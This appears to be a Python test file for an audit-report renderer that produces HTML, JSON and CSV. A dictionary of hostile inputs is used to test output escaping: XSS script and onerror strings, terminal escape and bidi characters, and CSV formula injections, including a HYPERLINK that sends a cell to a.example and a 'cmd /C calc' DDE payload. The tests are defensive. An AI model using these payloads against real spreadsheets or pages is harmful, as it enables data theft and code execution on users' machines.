"""The officers' report as files: whatever a post, a name or a claim holds, nothing runs, hides or breaks a line."""

from __future__ import annotations

import csv as standard
import io
import json as standard_json
import re
from collections.abc import Callable, Iterator
from importlib.resources import files
from typing import Any

import pytest
from html5lib import HTMLParser
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from ledger.domain.audit.breaches import Duty, Links
from ledger.domain.audit.rows import Row, ledger_row, rows
from ledger.domain.audit.scope import Scope
from ledger.domain.audit.tally import Tally
from ledger.domain.changes import Change
from ledger.domain.entries import Entry, Kind
from ledger.domain.names import bare, fault
from ledger.domain.notices import Claim, Notice
from ledger.domain.posts import Actor
from renderers.report.csvfile import BOM, COLUMNS, FORMULA, csv
from renderers.report.jsonfile import json
from renderers.report.page import page
from renderers.report.words import DUTIES, duration
from tests.renderers.histories import ORTIZ, Chain

SCHEMA: dict[str, Any] = standard_json.loads(
    (files("renderers") / "schemas" / "audit-1.schema.json").read_text("utf-8")
)
SCOPE = Scope(
    agency="Harbor County",
    origin="harbor.example",
    size=9,
    root=bytes(32),
    note="harbor.example\n9\nAAAA\n\n— harbor.example sign==\n",
    made_at="2026-03-31T12:00:00-04:00",
)
DAY = "2026-03-01T15:10:00-05:00"


def report(**said: str) -> list[Row]:
    """A row in which every free text is given: the reason, the claim, both sides of a place, the maker, a breach."""
    body, change = said.get("before", "May 3"), said.get("after", "May 5")
    chain = Chain("text").publish(f"The hearing is on {body}, we said.", title="Hearing")
    chain.step(f"The hearing is on {change}, we said.", reason=said.get("reason", "We had it wrong."), apology=None)
    return list(rows(chain.history(), Links(), {}, {}))


def laden(text: str) -> list[Row]:
    """Rows that hold a text wherever one can stand."""
    name = "".join(c for c in text if fault(c) is None).strip()
    name = name if bare(name) else f"{name}A. Reyes"
    by = Actor(name=name, role=name)
    entry = Entry(sequence=0, kind=Kind.POLICY, recorded_at=DAY, effective_at=DAY, actor=by, approver=by)
    breached = report(before=text, after=f"{text}!", reason=text)[1]
    return [
        ledger_row(entry, Notice(reason=text)),
        Row(entry=entry, claim=Claim(author=text, message=text), changes=(Change(text, text),), evidence=text),
        Row(entry=breached.entry, reason=text, apology=text, places=breached.places, breaches=breached.breaches),
    ]


def counted(made: list[Row]) -> Tally:
    tally = Tally()
    for row in made:
        tally.add(row)
    return tally


def as_html(made: list[Row]) -> str:
    return page(SCOPE, counted(made), [row for row in made if row.breaches], every=made)


def as_json(made: list[Row]) -> str:
    return "".join(json(SCOPE, made))


def as_csv(made: list[Row]) -> str:
    return "".join(csv(made))


def cells(text: str) -> list[dict[str, str]]:
    return list(standard.DictReader(io.StringIO(text.removeprefix(BOM), newline="")))


HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a handler": '"><img src=x onerror=alert(1)>',
    "the end of the style": "</style><script>alert(1)</script>",
    "a template": "{{ 7 * 7 }}{% raw %}",
    "an entity": "&lt;b&gt;&#60;i>",
    "an escape": "\x1b]0;owned\x07\x1b[2J\x1b[31m",
    "an eight bit escape": "\x9b31m\x90",
    "a backspace": "yes\x08\x08\x08no",
    "an override": "abc\u202edef\u2066ghi",
    "what can't be seen": "zero\u200bwidth\u2060\ufeff",
    "ends of lines": "one\r\ntwo\u2028three\x85four",
    "a formula": '=HYPERLINK("https://a.example/?"&A1,"ok")',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a plus": "+1+1",
    "a minus": "-1+1",
    "a tab first": "\t=1+1",
    "a blank first": "  =1+1",
    "a return first": "\r=1+1",
    "a wide sign": "＝1＋1",
    "a quote and a separator": '",=1+1,"',
    "an apostrophe": "'=1+1",
}
ACTS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("form", [as_html, as_json, as_csv])
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_nothing_acts_on_a_terminal_or_hides_in_it(text: str, form: Callable[[list[Row]], str]) -> None:
    """Whoever looks into a file with `less` or `cat` is as safe as in a browser."""
    assert not ACTS.search(form(laden(text)))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_no_text_becomes_markup(text: str) -> None:
    """The page of hostile texts has the elements that the page of a plain one has, and runs and loads nothing."""

    def elements(made: list[Row]) -> list[str]:
        tree = HTMLParser(strict=False, namespaceHTMLElements=False).parse(as_html(made))
        return [str(each.tag) for each in tree.iter() if isinstance(each.tag, str)]

    found = elements(laden(text))
    assert set(found) <= set(elements(laden("plain")))
    assert found.count("style") == 1
    assert not {"script", "img", "link", "iframe", "a", "base", "form"} & set(found)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_no_cell_is_a_formula(text: str) -> None:
    """OWASP, CSV Injection: a cell that would begin with one of the signs begins with an apostrophe instead."""
    found = cells(as_csv(laden(text)))
    assert all(row.keys() == set(COLUMNS) for row in found)
    for row in found:
        assert not any(cell.startswith(FORMULA) for cell in row.values())
    if text.lstrip().startswith(("=", "+", "-", "@", "＝")):
        assert found[0]["reason"].startswith("'")
        assert found[0]["reason"].endswith(text.lstrip())


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
def test_json_gives_every_text_back(text: str) -> None:
    """Escaped, not changed: what is made visible elsewhere is whole here."""
    made = standard_json.loads(as_json(laden(text)))
    assert made["entries"][0]["reason"] == (text or None)
    assert made["entries"][1]["claim"] == {"author": text, "message": text}
    assert len(as_json(laden(text)).splitlines()) == 5


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
def test_every_row_of_a_spreadsheet_is_whole(text: str) -> None:
    """RFC 4180: the same columns in each, whatever stands in one."""
    found = cells(as_csv(laden(text)))
    assert all(None not in row and None not in row.values() for row in found)
    assert [row["entry"] for row in found[:2]] == ["0", "0"]


def histories() -> Iterator[tuple[str, list[Row]]]:
    chain = Chain().publish("The hall opens on May 3.", title="Hall")
    yield "a post that never changed", list(rows(chain.history(), Links(), {}, {}))
    chain.step("The hall opens on May 5.").step("The hall opens on May 5, too.", kind=Kind.UNANNOUNCED)
    chain.note(Kind.CORRECTION, "Wrong.", link="new", apology="Sorry.").note(Kind.REMOVAL)
    links = Links(dead={"new": "It leads nowhere."}, one_sided=frozenset({chain.entries[3].sequence}))
    yield "every kind", list(rows(chain.history(), links, {chain.entries[1].sequence: "it differs"}, {0: {"publish"}}))
    yield "nothing", []


@pytest.mark.parametrize("made", [pytest.param(made, id=name) for name, made in histories()])
def test_json_keeps_to_its_schema(made: list[Row]) -> None:
    """docs/audit.md and the schema say the same; the summary is that of the rows."""
    Draft202012Validator.check_schema(SCHEMA)
    found = standard_json.loads(as_json(made))
    Draft202012Validator(SCHEMA).validate(found)
    assert found["summary"]["entries"] == len(found["entries"]) == len(made)
    assert sum(found["summary"]["breaches"].values()) == sum(len(row["breaches"]) for row in found["entries"])


def test_the_schema_knows_every_duty_and_every_field() -> None:
    """A field that is not asked for could go without anybody noticing."""
    assert set(SCHEMA["$defs"]["duty"]["enum"]) == {str(duty) for duty in Duty} == {str(duty) for duty in DUTIES}
    for name in ("entry", "durations", "actor"):
        assert sorted(SCHEMA["$defs"][name]["required"]) == sorted(SCHEMA["$defs"][name]["properties"])


def test_rows_are_told_as_they_come() -> None:
    """No more than a row is held: what is asked for next is not made before."""
    taken: list[int] = []

    def endless() -> Iterator[Row]:
        number = 0
        while True:
            taken.append(number)
            yield report()[0]
            number += 1

    for made in (csv(endless()), json(SCOPE, endless())):
        taken.clear()
        for _ in range(5):
            next(made)
        assert len(taken) <= 5


def test_a_page_tells_what_an_officer_signs() -> None:
    """What was examined, under which checkpoint, what stands, and a line for a name; tables repeat their heads."""
    chain = Chain().publish("The hall opens on May 3.", title="Hall")
    chain.step("The hall opens on May 5.", kind=Kind.UNANNOUNCED)
    made = list(rows(chain.history(), Links(), {}, {}))
    text = page(SCOPE, counted(made), [row for row in made if row.breaches], every=None)
    for told in ("Harbor County", "harbor.example, 9 entries", "00" * 32, "1 breach stands.", "Signature", "sign=="):
        assert told in text
    assert "Every entry" not in text
    assert "Every entry" in as_html(made)
    assert "display: table-header-group" in text
    assert "default-src 'none'" in text


def test_a_breach_that_was_owned_up_to_says_by_whom() -> None:
    """And when."""
    chain = Chain().publish("In 10 days.").step("In 9 days.", kind=Kind.UNANNOUNCED)
    chain.reword(
        chain.corrections[0].entry.number or 0, reason="We had it wrong.", kind=Kind.CORRECTION, apology="Sorry."
    )
    text = as_html(list(rows(chain.history(), Links(), {}, {})))
    assert f"Owned up to on 2026-03-03 15:10 by <bdi>{ORTIZ}</bdi> (entry {chain.entries[-1].sequence})." in text
    assert "No breach stands." in text


@pytest.mark.parametrize(
    ("seconds", "told"),
    [
        (0, "less than a minute"),
        (59, "less than a minute"),
        (60, "1 minute"),
        (3_599, "59 minutes"),
        (3_600, "1 hour"),
        (3_660, "1 hour 1 minute"),
        (86_399, "23 hours 59 minutes"),
        (86_400, "1 day"),
        (90_000, "1 day 1 hour"),
        (86_400 * 10 + 7_200, "10 days"),
        (86_400 * 1_234, "1,234 days"),
        (-90_000, "−1 day 1 hour"),
    ],
)
def test_a_duration_is_told_in_its_two_largest_units(seconds: int, told: str) -> None:
    """Days and hours, rounded down; a claim may put a change before its post."""
    assert duration(seconds) == told
